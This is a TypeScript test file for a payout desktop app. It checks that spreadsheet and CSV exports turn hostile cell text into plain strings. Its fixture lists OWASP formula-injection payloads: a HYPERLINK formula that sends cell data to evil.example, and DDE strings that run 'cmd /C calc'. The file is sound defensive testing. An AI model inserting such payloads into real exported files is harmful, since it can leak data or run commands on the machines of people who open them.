import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeResults } from '../../../electron/core/sheets/writing/results-export';
import { startsLikeFormula } from '../../../electron/core/sheets/writing/safe-text';
import { writeStatement } from '../../../electron/core/sheets/writing/statement-export';
import {
  writeTemplateCsv,
  writeTemplateWorkbook,
} from '../../../electron/core/sheets/writing/template-workbook';
import type { StatementItem } from '../../../shared/service/wallet';
import { worksheetXml } from '../../support/xlsx-parts';

/** The payloads of OWASP's CSV injection page, one per dangerous first character. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
] as const;

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'payout-desk-formula-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

function statementItem(index: number, text: string): StatementItem {
  return {
    type: 'statement_item',
    id: `item-${index}`,
    description: text,
    execution_id: text,
    date: '2026-11-02T10:15:00Z',
    action: 'DEBIT',
    debit: { amount: -12.5, currency: 'GBP' },
    credit: { amount: 12.5, currency: 'GBP' },
    fees: 0,
    rate: 1,
    balance: -100,
    counterpart: { name: text },
    user_tags: {},
    tags: {},
  };
}

/** Writes every kind of file the app exports with the hostile texts in its text cells. */
async function writeAll(format: 'xlsx' | 'csv'): Promise<string[]> {
  const template = join(dir, `template.${format}`);
  const rows = HOSTILE.map((text) => ({ name: text, description: text, 'tag:department': text }));
  if (format === 'xlsx') await writeTemplateWorkbook(template, rows);
  else await writeTemplateCsv(template, rows);

  const results = join(dir, `results.${format}`);
  await writeResults(results, {
    sheet: HOSTILE[0],
    headerRow: 2,
    header: [HOSTILE[0], 'Amount'],
    // Titles above the header and rows the import skipped are the person's text too.
    kept: [
      { row: 1, source: [HOSTILE[1]] },
      { row: 20, source: [HOSTILE[2], -1], skipped: HOSTILE[3] },
    ],
    rows: HOSTILE.map((text, index) => ({
      row: index + 3,
      source: [text, -12.5],
      state: text,
      remoteStatus: text,
      paymentId: text,
      correlationId: text,
      error: text,
    })),
  });

  const statement = join(dir, `statement.${format}`);
  await writeStatement(statement, {
    wallet: { id: HOSTILE[1], name: HOSTILE[0], currency: 'GBP' },
    start: '2026-11-01T00:00:00Z',
    end: '2026-11-30T00:00:00Z',
    items: HOSTILE.map((text, index) => statementItem(index, text)),
  });
  return [template, results, statement];
}

describe('an xlsx export', () => {
  it('holds no formula anywhere, only string cells with the hostile text', async () => {
    const files = await writeAll('xlsx');
    for (const file of files) {
      for (const xml of worksheetXml(file)) expect(xml).not.toMatch(/<f[\s>/]/);

      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.readFile(file);
      const texts: unknown[] = [];
      workbook.eachSheet((sheet) =>
        sheet.eachRow((row) => row.eachCell((cell) => texts.push(cell.value))),
      );
      for (const text of HOSTILE) expect(texts).toContain(text.replace(/\r/g, '\n'));
      for (const value of texts) {
        const isPlain =
          value === null ||
          value instanceof Date ||
          ['string', 'number', 'boolean'].includes(typeof value);
        expect(isPlain, `cell value ${JSON.stringify(value)}`).toBe(true);
      }
    }
  });

  it('keeps a negative amount a number', async () => {
    const [, results] = await writeAll('xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(results ?? '');
    expect(workbook.worksheets[0]?.getCell('B3').value).toBe(-12.5);
  });
});

describe('a CSV export', () => {
  it('prefixes each hostile text with a quote, and no cell starts like a formula', async () => {
    const files = await writeAll('csv');
    for (const file of files) {
      const records = parse(await readFile(file, 'utf8'), { bom: true }) as string[][];
      const cells = records.flat();
      for (const text of HOSTILE) expect(cells).toContain(`'${text}`);
      for (const cell of cells) expect(startsLikeFormula(cell), JSON.stringify(cell)).toBe(false);
    }
  });

  it('writes a negative amount as a number, not as quoted text', async () => {
    const [, results, statement] = await writeAll('csv');
    const resultRows = parse(await readFile(results ?? '', 'utf8'), { bom: true }) as string[][];
    expect(resultRows[2]?.[1]).toBe('-12.5');
    const statementRows = parse(await readFile(statement ?? '', 'utf8'), {
      bom: true,
    }) as string[][];
    expect(statementRows[1]?.[4]).toBe('-12.50');
  });
});
